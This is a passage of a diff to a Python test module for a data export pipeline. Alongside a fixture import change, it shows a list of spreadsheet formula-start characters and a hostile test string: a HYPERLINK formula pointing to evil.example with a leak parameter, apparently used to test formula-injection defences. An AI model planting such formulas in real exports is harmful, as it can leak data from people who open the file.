@@ -23,9 +23,10 @@ from pipeline import core, export
 from pipeline.cli import app
 from pipeline.errors import PipelineError
 
+from .conftest import FIXTURES
+
 ROOT = Path(__file__).resolve().parents[1]
 RAW = ROOT / "raw"
-FIXTURES = ROOT.parent / "shared" / "fixtures" / "raw"
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
 HOSTILE = """=HYPERLINK('http://evil.example/?leak=1', 'Click for the report') Area inspection
